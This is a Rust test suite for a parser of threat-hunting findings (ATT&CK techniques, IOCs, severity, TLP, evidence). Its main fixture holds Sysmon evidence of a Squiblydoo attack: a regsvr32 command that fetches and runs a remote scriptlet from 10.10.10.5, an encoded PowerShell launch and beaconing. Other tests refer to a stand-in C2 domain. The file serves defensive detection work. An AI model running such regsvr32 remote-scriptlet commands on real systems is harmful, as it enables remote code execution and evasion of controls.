use std::time::{Duration, Instant};

use super::*;
use crate::domain::attack::{AttackError, AttackWarning, EXPECTED_ID_FORM, Status};
use crate::domain::ioc::{IocError, IocFlag, IocKind};
use crate::domain::types::ValueKind;

/// The first message of the regsvr32 "Squiblydoo" case conversation, after
/// `/finding `.
const SQUIBLYDOO: &str = r#"Regsvr32 cargando scriptlet remoto (Squiblydoo) en WORKSTATION5
hipótesis: abuso de regsvr32 /i:http con scrobj.dll para ejecutar scriptlets COM remotos y evadir controles
técnicas: T1218.010, T1059.001
equipos: WORKSTATION5.mordor.local
usuarios: MORDOR\pgustavo
severidad: alta
confianza: media
tlp: amber
iocs:
- hxxp://10.10.10[.]5:8444/launcher[.]sct
- 908B64B1971A979C7E3E8CE4621945CBA84854CB98D76367B791A6E22B5F6D53
evidencia:
```
2020-07-22T03:27:53Z WORKSTATION5 Sysmon 1 "C:\windows\system32\regsvr32.exe" /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll (padre: powershell.exe)
2020-07-22T03:27:54Z WORKSTATION5 Sysmon 1 powershell.exe -noP -sta -w 1 -enc SQBGACgAJABQAFMAVgBFAHIA... (padre: regsvr32.exe)
2020-07-22T03:27:57Z..03:28:28Z WORKSTATION5 Sysmon 3 powershell.exe -> 10.10.10.5:8444 cada ~5 s (beaconing)
```
Adjunto los eventos completos de Sysmon."#;

fn parse(input: &str) -> Result<ParsedFinding, FindingError> {
    parse_finding(input, Catalog::embedded(), &Extractor::default())
}

fn technique_ids(finding: &ParsedFinding) -> Vec<&str> {
    finding.techniques.iter().map(|t| t.id.as_str()).collect()
}

#[test]
fn squiblydoo_case_parses() {
    let finding = parse(SQUIBLYDOO).unwrap();

    assert_eq!(
        finding.title,
        "Regsvr32 cargando scriptlet remoto (Squiblydoo) en WORKSTATION5"
    );
    assert_eq!(
        finding.hypothesis.as_deref(),
        Some(
            "abuso de regsvr32 /i:http con scrobj.dll para ejecutar scriptlets COM remotos y evadir controles"
        )
    );
    assert_eq!(technique_ids(&finding), ["T1218.010", "T1059.001"]);
    let regsvr32 = &finding.techniques[0];
    assert_eq!(regsvr32.name, "System Binary Proxy Execution: Regsvr32");
    assert_eq!(regsvr32.tactics.len(), 1);
    assert_eq!(regsvr32.tactics[0].shortname, "stealth");
    assert_eq!(
        finding.techniques[1].name,
        "Command and Scripting Interpreter: PowerShell"
    );
    assert_eq!(finding.hosts, ["WORKSTATION5.mordor.local"]);
    assert_eq!(finding.users, [r"MORDOR\pgustavo"]);
    assert_eq!(finding.severity, Severity::High);
    assert_eq!(finding.confidence, Confidence::Medium);
    assert_eq!(finding.tlp, Tlp::Amber);
    assert!(finding.defaults_applied.is_empty());
    assert!(finding.warnings.is_empty(), "{:?}", finding.warnings);

    assert_eq!(finding.evidence.len(), 1);
    assert_eq!(finding.evidence[0].lines().count(), 3);
    assert!(
        finding.evidence[0].starts_with("2020-07-22T03:27:53Z WORKSTATION5 Sysmon 1 \"C:\\windows")
    );
    assert_eq!(finding.notes, "Adjunto los eventos completos de Sysmon.");
}

#[test]
fn squiblydoo_iocs_refanged_and_merged() {
    let finding = parse(SQUIBLYDOO).unwrap();
    let find = |kind: IocKind, value: &str| {
        finding
            .iocs
            .iter()
            .find(|ioc| ioc.kind == kind && ioc.value == value)
    };

    // The two `iocs:` items come first, refanged and normalized.
    assert_eq!(finding.iocs[0].kind, IocKind::Url);
    assert_eq!(finding.iocs[0].value, "http://10.10.10.5:8444/launcher.sct");
    assert_eq!(finding.iocs[1].kind, IocKind::Sha256);
    assert_eq!(
        finding.iocs[1].value,
        "908b64b1971a979c7e3e8ce4621945cba84854cb98d76367b791a6e22b5f6d53"
    );

    // The URL's host, also in the evidence, is extracted once and flagged.
    let ip = find(IocKind::Ipv4, "10.10.10.5").expect("the URL host is extracted");
    assert!(ip.has_flag(IocFlag::Private));
    let urls = finding
        .iocs
        .iter()
        .filter(|i| i.kind == IocKind::Url)
        .count();
    assert_eq!(urls, 1);

    // The affected host is in `hosts`, not in the indicators.
    assert!(find(IocKind::Domain, "workstation5.mordor.local").is_none());
}

#[test]
fn minimal_finding_applies_defaults() {
    let finding = parse("Beaconing desde 10.0.0.1").unwrap();
    assert_eq!(finding.title, "Beaconing desde 10.0.0.1");
    assert_eq!(finding.severity, Severity::Medium);
    assert_eq!(finding.confidence, Confidence::Medium);
    assert_eq!(finding.tlp, Tlp::Amber);
    assert_eq!(
        finding.defaults_applied,
        [Field::Severity, Field::Confidence, Field::Tlp]
    );
    assert!(finding.hypothesis.is_none());
    assert!(finding.techniques.is_empty());
    assert!(finding.evidence.is_empty());
    assert_eq!(finding.notes, "");
}

#[test]
fn english_keys_and_case() {
    let input =
        "Title\nHypothesis: h\nSEVERITY: Critical\nConfidence: low\nTLP:RED\nHosts: a, b\nUser: x";
    let finding = parse(input).unwrap();
    assert_eq!(finding.hypothesis.as_deref(), Some("h"));
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(finding.confidence, Confidence::Low);
    assert_eq!(finding.tlp, Tlp::Red);
    assert_eq!(finding.hosts, ["a", "b"]);
    assert_eq!(finding.users, ["x"]);
    assert!(finding.defaults_applied.is_empty());
}

#[test]
fn unaccented_spanish_keys() {
    let input = "T\nhipotesis: h\ntecnicas: T1059\nseveridad: critica\ntlp: ámbar+strict";
    let finding = parse(input).unwrap();
    assert_eq!(finding.hypothesis.as_deref(), Some("h"));
    assert_eq!(technique_ids(&finding), ["T1059"]);
    assert_eq!(finding.severity, Severity::Critical);
    assert_eq!(finding.tlp, Tlp::AmberStrict);
    assert_eq!(finding.defaults_applied, [Field::Confidence]);
}

#[test]
fn list_items_and_commas_combine() {
    let input = "T\nequipos: a, b\n- c\n\n* A\n1. d\nusuarios:\n- MORDOR\\x, y\nfree text";
    let finding = parse(input).unwrap();
    assert_eq!(finding.hosts, ["a", "b", "c", "d"]);
    // Item lines are not split on commas.
    assert_eq!(finding.users, ["MORDOR\\x, y"]);
    assert_eq!(finding.notes, "free text");
}

#[test]
fn item_without_list_is_free_text() {
    let input = "T\n- first thought\nseveridad: baja\n- second thought";
    let finding = parse(input).unwrap();
    assert_eq!(finding.notes, "- first thought\n- second thought");
    assert_eq!(finding.severity, Severity::Low);
}

#[test]
fn sentence_with_colon_is_free_text() {
    let input = "T\nAdjunto los eventos: todos\nVer http://example.com\nhttp://example.com/x\nC:\\Windows\\temp\\a.exe";
    let finding = parse(input).unwrap();
    assert_eq!(
        finding.notes,
        "Adjunto los eventos: todos\nVer http://example.com\nhttp://example.com/x\nC:\\Windows\\temp\\a.exe"
    );
}

#[test]
fn notes_key_and_paragraphs() {
    let input = "T\n\nprimera línea\n\n\nsegunda\nnotas: tercera\n\n";
    let finding = parse(input).unwrap();
    assert_eq!(finding.notes, "primera línea\n\nsegunda\ntercera");
}

#[test]
fn unknown_key_suggests_closest() {
    let error = parse("T\nseveridad: alta\nhipotesys: x").unwrap_err();
    assert_eq!(
        error,
        FindingError::UnknownKey {
            key: "hipotesys".into(),
            line: 3,
            suggestion: Some("hipótesis"),
        }
    );
    assert_eq!(error.code(), "finding_unknown_key");
    assert_eq!(error.line(), Some(3));
}

#[test]
fn unknown_key_without_suggestion() {
    let error = parse("T\nSysmon: evento 1").unwrap_err();
    assert_eq!(
        error,
        FindingError::UnknownKey {
            key: "Sysmon".into(),
            line: 2,
            suggestion: None,
        }
    );
}

#[test]
fn keys_inside_code_blocks_are_evidence() {
    let input = "T\n```yaml\nfoo: bar\nseverity: nonsense\n```\nseverity: high";
    let finding = parse(input).unwrap();
    assert_eq!(finding.evidence, ["foo: bar\nseverity: nonsense"]);
    assert_eq!(finding.severity, Severity::High);
}

#[test]
fn code_blocks_anywhere_are_evidence() {
    let input = "T\ntext before\n```\nblock one\n```\nevidencia: inline line\n```powershell\nblock two\n  indented\n```";
    let finding = parse(input).unwrap();
    assert_eq!(
        finding.evidence,
        ["block one", "inline line", "block two\n  indented"]
    );
    assert_eq!(finding.notes, "text before");
}

#[test]
fn evidence_items_are_blocks() {
    let input = "T\nevidence:\n- first, with comma\n- second";
    let finding = parse(input).unwrap();
    assert_eq!(finding.evidence, ["first, with comma", "second"]);
}

#[test]
fn unterminated_code_block_names_line() {
    let error = parse("T\nseveridad: alta\n```\nlog line").unwrap_err();
    assert_eq!(error, FindingError::UnterminatedCodeBlock { line: 3 });
    assert_eq!(error.code(), "finding_unterminated_code_block");
}

#[test]
fn empty_title_is_error() {
    for input in ["", "   ", "\nseveridad: alta", "  \r\nhipótesis: x"] {
        assert_eq!(
            parse(input).unwrap_err(),
            FindingError::EmptyTitle,
            "{input:?}"
        );
    }
    assert_eq!(FindingError::EmptyTitle.code(), "finding_empty_title");
}

#[test]
fn crlf_input_parses() {
    let input = "Título\r\nseveridad: alta\r\nequipos: a\r\n```\r\nx\r\ny\r\n```\r\n";
    let finding = parse(input).unwrap();
    assert_eq!(finding.title, "Título");
    assert_eq!(finding.severity, Severity::High);
    assert_eq!(finding.hosts, ["a"]);
    assert_eq!(finding.evidence, ["x\ny"]);
}

#[test]
fn invalid_values_name_field_and_allowed() {
    let cases = [
        (
            "severidad: urgente",
            Field::Severity,
            "urgente",
            ValueKind::Severity,
        ),
        (
            "confianza: total",
            Field::Confidence,
            "total",
            ValueKind::Confidence,
        ),
        ("tlp: purple", Field::Tlp, "purple", ValueKind::Tlp),
    ];
    for (line, field, value, kind) in cases {
        let error = parse(&format!("T\n{line}")).unwrap_err();
        assert_eq!(
            error,
            FindingError::InvalidValue {
                field,
                value: value.into(),
                line: 2,
                allowed: kind.allowed(),
            },
            "{line}"
        );
        assert_eq!(error.code(), "finding_invalid_value");
    }
}

#[test]
fn missing_values_are_errors() {
    let error = parse("T\nseveridad:\nequipos: a").unwrap_err();
    assert_eq!(
        error,
        FindingError::MissingValue {
            field: Field::Severity,
            line: 2
        }
    );
    let error = parse("T\nequipos:\nseveridad: alta").unwrap_err();
    assert_eq!(
        error,
        FindingError::MissingValue {
            field: Field::Hosts,
            line: 2
        }
    );
    let error = parse("T\nusuarios:").unwrap_err();
    assert_eq!(
        error,
        FindingError::MissingValue {
            field: Field::Users,
            line: 2
        }
    );
    let error = parse("T\nevidencia:\ntexto suelto").unwrap_err();
    assert_eq!(error.code(), "finding_missing_value");
}

#[test]
fn evidence_key_then_code_block() {
    let finding = parse("T\nevidencia:\n\n```\nlog\n```").unwrap();
    assert_eq!(finding.evidence, ["log"]);
}

#[test]
fn duplicate_key_across_languages() {
    let error = parse("T\nseverity: high\nequipos: a\nseveridad: baja").unwrap_err();
    assert_eq!(
        error,
        FindingError::DuplicateKey {
            key: "severidad".into(),
            field: Field::Severity,
            line: 4,
            first_line: 2,
        }
    );
    assert_eq!(error.code(), "finding_duplicate_key");

    let error = parse("T\nequipo: a\nhosts: b").unwrap_err();
    assert_eq!(error.code(), "finding_duplicate_key");
}

#[test]
fn techniques_with_descriptions_and_separators() {
    let input = "T\ntécnicas: T1218.010 (Regsvr32); t1059.001 PowerShell\n- T1003.001 LSASS T1003";
    let finding = parse(input).unwrap();
    assert_eq!(
        technique_ids(&finding),
        ["T1218.010", "T1059.001", "T1003.001", "T1003"]
    );
}

#[test]
fn technique_field_malformed_is_error() {
    let error = parse("T\ntécnicas: T1218.010, Regsvr32").unwrap_err();
    assert_eq!(
        error,
        FindingError::InvalidTechnique {
            value: "Regsvr32".into(),
            line: 2,
            cause: AttackError::Malformed {
                value: "Regsvr32".into(),
                expected: EXPECTED_ID_FORM,
            },
        }
    );
    assert_eq!(error.code(), "finding_invalid_technique");

    let error = parse("T\ntécnicas: T1218.010 T10590").unwrap_err();
    assert!(
        matches!(&error, FindingError::InvalidTechnique { value, .. } if value == "T10590"),
        "{error:?}"
    );
}

#[test]
fn technique_field_unknown_is_error() {
    let error = parse("T\nttps: T1059.099").unwrap_err();
    let FindingError::InvalidTechnique { value, line, cause } = &error else {
        panic!("expected InvalidTechnique, got {error:?}");
    };
    assert_eq!(value, "T1059.099");
    assert_eq!(*line, 2);
    let AttackError::Unknown { id, suggestions } = cause else {
        panic!("expected Unknown, got {cause:?}");
    };
    assert_eq!(id, "T1059.099");
    assert_eq!(suggestions.first().map(String::as_str), Some("T1059"));
}

#[test]
fn revoked_technique_is_mapped_with_warning() {
    let finding = parse("T\ntechniques: T1117").unwrap();
    assert_eq!(technique_ids(&finding), ["T1218.010"]);
    assert_eq!(finding.techniques[0].requested, "T1117");
    assert_eq!(
        finding.warnings,
        [FindingWarning::Technique {
            warning: AttackWarning::Revoked {
                id: "T1117".into(),
                replaced_by: "T1218.010".into(),
                replacement_name: "System Binary Proxy Execution: Regsvr32".into(),
            }
        }]
    );
    assert_eq!(finding.warnings[0].code(), "technique_revoked");
}

#[test]
fn removed_and_deprecated_techniques_warn() {
    let finding = parse("T\ntechniques: T1562.001, T1064").unwrap();
    assert_eq!(technique_ids(&finding), ["T1562.001", "T1064"]);
    assert_eq!(finding.techniques[0].status, Status::RemovedV19);
    let codes: Vec<_> = finding.warnings.iter().map(FindingWarning::code).collect();
    assert_eq!(codes, ["technique_removed_v19", "technique_deprecated"]);
}

#[test]
fn revoked_and_replacement_listed_once() {
    let finding = parse("T\ntechniques: T1218.010, T1117\nT1117 otra vez").unwrap();
    assert_eq!(technique_ids(&finding), ["T1218.010"]);
    // The revoked ID is still pointed out, once.
    let codes: Vec<_> = finding.warnings.iter().map(FindingWarning::code).collect();
    assert_eq!(codes, ["technique_revoked"]);
}

#[test]
fn techniques_found_in_text() {
    let input = "Posible T1003.001 en DC01\nhipótesis: volcado de LSASS (T1003.001)\ntécnicas: T1059.001\nVisto también T1021.002 y T9999\n```\nrule: T1117\n```";
    let finding = parse(input).unwrap();
    assert_eq!(
        technique_ids(&finding),
        ["T1059.001", "T1003.001", "T1021.002", "T1218.010"]
    );
    let codes: Vec<_> = finding.warnings.iter().map(FindingWarning::code).collect();
    assert_eq!(codes, ["technique_unknown_in_text", "technique_revoked"]);
    assert_eq!(
        finding.warnings[0],
        FindingWarning::UnknownTechniqueInText { id: "T9999".into() }
    );
}

#[test]
fn invalid_ioc_item_names_value() {
    let error = parse("T\niocs:\n- not an indicator").unwrap_err();
    let FindingError::InvalidIoc {
        value,
        line,
        accepted,
        cause,
    } = &error
    else {
        panic!("expected InvalidIoc, got {error:?}");
    };
    assert_eq!(value, "not an indicator");
    assert_eq!(*line, 3);
    assert_eq!(*accepted, IocKind::ALL.as_slice());
    assert_eq!(
        *cause,
        IocError::NotAnIndicator {
            value: "not an indicator".into()
        }
    );
    assert_eq!(error.code(), "finding_invalid_ioc");
}

#[test]
fn ioc_item_must_be_one_indicator() {
    let error = parse("T\niocs: 10.0.0.1 and evil.com").unwrap_err();
    assert!(
        matches!(&error, FindingError::InvalidIoc { value, line: 2, .. } if value == "10.0.0.1 and evil.com"),
        "{error:?}"
    );
}

#[test]
fn hosts_and_users_dedupe_ignoring_case() {
    let finding = parse("T\nhosts: WS1, ws1, WS2\nusers: MORDOR\\Ana, mordor\\ana").unwrap();
    assert_eq!(finding.hosts, ["WS1", "WS2"]);
    assert_eq!(finding.users, ["MORDOR\\Ana"]);
}

#[test]
fn input_too_long_returns_fast() {
    let input = format!("T\n{}", "a".repeat(1024 * 1024));
    let started = Instant::now();
    let error = parse(&input).unwrap_err();
    let elapsed = started.elapsed();
    assert_eq!(
        error,
        FindingError::TooLong {
            field: Field::Input,
            length: input.len(),
            max: MAX_INPUT_BYTES,
            line: None,
        }
    );
    assert_eq!(error.code(), "finding_too_long");
    assert!(elapsed < Duration::from_millis(50), "took {elapsed:?}");
}

#[test]
fn input_at_limit_is_accepted() {
    let mut input = String::from("T\n");
    input.push_str(&"x".repeat(MAX_INPUT_BYTES - input.len()));
    assert_eq!(input.len(), MAX_INPUT_BYTES);
    assert!(parse(&input).is_ok());
}

#[test]
fn title_too_long() {
    let title = "á".repeat(MAX_TITLE_CHARS + 1);
    let error = parse(&title).unwrap_err();
    assert_eq!(
        error,
        FindingError::TooLong {
            field: Field::Title,
            length: MAX_TITLE_CHARS + 1,
            max: MAX_TITLE_CHARS,
            line: Some(1),
        }
    );
    assert!(parse(&"á".repeat(MAX_TITLE_CHARS)).is_ok());
}

#[test]
fn value_too_long() {
    let input = format!(
        "T\nseveridad: alta\nhipótesis: {}",
        "h".repeat(MAX_VALUE_CHARS + 1)
    );
    let error = parse(&input).unwrap_err();
    assert_eq!(
        error,
        FindingError::TooLong {
            field: Field::Hypothesis,
            length: MAX_VALUE_CHARS + 1,
            max: MAX_VALUE_CHARS,
            line: Some(3),
        }
    );
    let input = format!("T\nequipos:\n- ok\n- {}", "h".repeat(MAX_VALUE_CHARS + 1));
    let error = parse(&input).unwrap_err();
    assert!(
        matches!(
            error,
            FindingError::TooLong {
                field: Field::Hosts,
                line: Some(4),
                ..
            }
        ),
        "{error:?}"
    );
}

#[test]
fn long_evidence_line_is_accepted() {
    let input = format!("T\nevidencia: {}", "A".repeat(MAX_VALUE_CHARS * 2));
    let finding = parse(&input).unwrap();
    assert_eq!(finding.evidence[0].len(), MAX_VALUE_CHARS * 2);
}

#[test]
fn too_many_list_items() {
    let hosts: Vec<String> = (0..=MAX_LIST_ITEMS).map(|i| format!("host{i}")).collect();
    let input = format!("T\nequipos: {}", hosts.join(", "));
    let error = parse(&input).unwrap_err();
    assert_eq!(
        error,
        FindingError::TooMany {
            field: Field::Hosts,
            count: MAX_LIST_ITEMS + 1,
            max: MAX_LIST_ITEMS,
        }
    );
    assert_eq!(error.code(), "finding_too_many");
    assert_eq!(error.line(), None);
}

#[test]
fn too_many_techniques_in_total() {
    let ids: Vec<&str> = Catalog::embedded()
        .techniques()
        .filter(|t| t.status == Status::Active)
        .map(|t| t.id.as_str())
        .take(MAX_TECHNIQUES + 1)
        .collect();
    let listed = ids[..20].join(", ");
    let in_text = ids[20..].join(" ");
    let error = parse(&format!("T\ntécnicas: {listed}\n{in_text}")).unwrap_err();
    assert_eq!(
        error,
        FindingError::TooMany {
            field: Field::Techniques,
            count: MAX_TECHNIQUES + 1,
            max: MAX_TECHNIQUES,
        }
    );
}

#[test]
fn parsed_finding_round_trips_through_serde() {
    let finding =
        parse("T\ntécnicas: T1117, T1562.001\nseveridad: alta\n```\nlog\n```\nnota").unwrap();
    let json = serde_json::to_string(&finding).unwrap();
    assert!(json.contains("\"severity\":\"high\""), "{json}");
    assert!(json.contains("\"tlp\":\"amber\""), "{json}");
    assert!(
        json.contains("\"defaults_applied\":[\"confidence\",\"tlp\"]"),
        "{json}"
    );
    let back: ParsedFinding = serde_json::from_str(&json).unwrap();
    assert_eq!(back, finding);
}

#[test]
fn error_messages_for_logs() {
    let error = parse("T\ntlp: purple").unwrap_err();
    assert_eq!(error.to_string(), "invalid tlp value \"purple\" on line 2");
}

#[test]
fn listed_host_not_reported_as_ioc() {
    let input = "T\nequipos: WS7.corp.example.org\n```\nWS7.corp.example.org -> evil-c2.com\n```";
    let finding = parse(input).unwrap();
    let values: Vec<&str> = finding.iocs.iter().map(|i| i.value.as_str()).collect();
    assert!(values.contains(&"evil-c2.com"), "{values:?}");
    assert!(!values.contains(&"ws7.corp.example.org"), "{values:?}");
}

#[test]
fn listed_host_kept_when_also_an_ioc_item() {
    let input = "T\nequipos: evil-c2.com\niocs: evil-c2.com";
    let finding = parse(input).unwrap();
    assert_eq!(finding.iocs.len(), 1);
    assert_eq!(finding.iocs[0].value, "evil-c2.com");
}

#[test]
fn iocs_deduplicated_across_items_and_text() {
    let input = "Beacon a evil-c2[.]com\niocs: hxxp://evil-c2[.]com/gate, evil-c2.com\nVisto también evil-c2(dot)com";
    let finding = parse(input).unwrap();
    let listed: Vec<(IocKind, &str)> = finding
        .iocs
        .iter()
        .map(|i| (i.kind, i.value.as_str()))
        .collect();
    assert_eq!(
        listed,
        [
            (IocKind::Url, "http://evil-c2.com/gate"),
            (IocKind::Domain, "evil-c2.com"),
        ]
    );
}

#[test]
fn too_many_iocs_in_total() {
    let addresses: Vec<String> = (0..=MAX_IOCS)
        .map(|i| format!("8.8.{}.{}", i / 256, i % 256))
        .collect();
    let input = format!("T\n```\n{}\n```", addresses.join("\n"));
    let error = parse(&input).unwrap_err();
    assert_eq!(
        error,
        FindingError::TooMany {
            field: Field::Iocs,
            count: MAX_IOCS + 1,
            max: MAX_IOCS,
        }
    );
}

fn parse_all(input: &str) -> Result<ParsedFinding, super::FindingErrors> {
    super::parse_finding_all(input, Catalog::embedded(), &Extractor::default())
}

#[test]
fn every_line_mistake_is_reported_in_line_order() {
    let errors =
        parse_all("Beacon\nhipotesys: x\n- not a technique\nseveridad: altisima\ntlp: púrpura")
            .unwrap_err();
    let codes: Vec<(&str, Option<usize>)> = errors
        .errors
        .iter()
        .map(|error| (error.code(), error.line()))
        .collect();
    assert_eq!(
        codes,
        [
            ("finding_unknown_key", Some(2)),
            ("finding_invalid_value", Some(4)),
            ("finding_invalid_value", Some(5)),
        ]
    );
    assert_eq!(errors.omitted, 0);
}

#[test]
fn empty_title_does_not_hide_line_mistakes() {
    let errors = parse_all("\nseveridad: altisima").unwrap_err();
    assert_eq!(errors.errors[0], FindingError::EmptyTitle);
    assert_eq!(errors.errors[1].line(), Some(2));
}

#[test]
fn empty_list_before_unknown_key() {
    let errors = parse_all("Beacon\ntécnicas:\nseveridd: alta").unwrap_err();
    let codes: Vec<&str> = errors.errors.iter().map(FindingError::code).collect();
    assert_eq!(codes, ["finding_missing_value", "finding_unknown_key"]);
}

#[test]
fn mistakes_beyond_the_limit_are_counted() {
    let mut input = String::from("Beacon\niocs:");
    for index in 0..super::MAX_ERRORS + 3 {
        input.push_str(&format!("\n- not-an-indicator-{index}"));
    }
    let errors = parse_all(&input).unwrap_err();
    assert_eq!(errors.errors.len(), super::MAX_ERRORS);
    assert_eq!(errors.omitted, 3);
    assert_eq!(errors.errors[0].line(), Some(3));
}

#[test]
fn first_error_matches_the_full_list() {
    let input = "Beacon\nseveridad: altisima\ntlp: rojo";
    assert_eq!(
        parse(input).unwrap_err(),
        parse_all(input).unwrap_err().errors[0]
    );
}

#[test]
fn comma_list_reports_every_value() {
    let errors = parse_all("Beacon\niocs: foo bar, 198.51.100.7, 1.2.3, 999.9.9.9").unwrap_err();
    let values: Vec<String> = errors
        .errors
        .iter()
        .map(|error| match error {
            FindingError::InvalidIoc { value, line, .. } => format!("{line}:{value}"),
            other => format!("{other:?}"),
        })
        .collect();
    assert_eq!(values, ["2:foo bar", "2:1.2.3", "2:999.9.9.9"]);
}
